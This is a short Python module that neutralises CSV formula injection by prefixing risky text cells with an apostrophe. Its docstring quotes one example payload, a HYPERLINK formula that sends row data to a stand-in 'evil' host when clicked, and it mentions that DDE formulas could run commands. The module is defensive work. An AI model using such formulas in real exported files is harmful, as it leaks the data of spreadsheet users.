"""CSV cells that a spreadsheet will show as text, never run as a formula (OWASP, «CSV
Injection»).

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a
formula to Excel and LibreOffice (``=HYPERLINK("http://evil/?"&A1, "…")`` sends the row away
when clicked, DDE formulas ran commands in older versions). Such a cell gets a leading
apostrophe, which the spreadsheet shows as text. Numbers are written as numbers: only text
(which may come from a citizen or an operator's name) is touched.
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[object]) -> list[object]:
    return [safe_cell(value) for value in values]
